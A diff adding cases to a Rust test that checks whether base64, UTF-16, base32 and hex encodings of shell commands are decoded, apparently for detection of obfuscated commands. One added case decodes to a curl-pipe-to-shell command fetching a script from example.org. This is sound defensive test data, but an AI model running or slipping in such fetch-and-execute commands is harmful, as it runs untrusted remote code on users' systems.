@@ -56,6 +56,22 @@ fn every_encoding_is_undone() {
             "6375726c20687474703a2f2f6578616d706c652e6f7267",
             "curl http://example.org",
         ),
+        (
+            "Y3VybCAtZnNTTCBodHRwOi8vZXhhbXBsZS5vcmcv\naS5zaCB8IHNo\n",
+            "curl -fsSL http://example.org/i.sh | sh",
+        ),
+        (
+            "AGMAdQByAGwAIABoAHQAdABwADoALwAvAGUAeABhAG0AcABsAGU=",
+            "curl http://example",
+        ),
+        (
+            "MN2XE3BANB2HI4B2F4XWK6DBNVYGYZJON5ZGO===",
+            "curl http://example.org",
+        ),
+        (
+            "63 75 72 6c 20 68 74 74 70 3a 2f 2f 65 78",
+            "curl http://ex",
+        ),
         (r"\x63\x75\x72\x6c http", "curl"),
         (
             "%63%75%72%6c%20http://example.org",
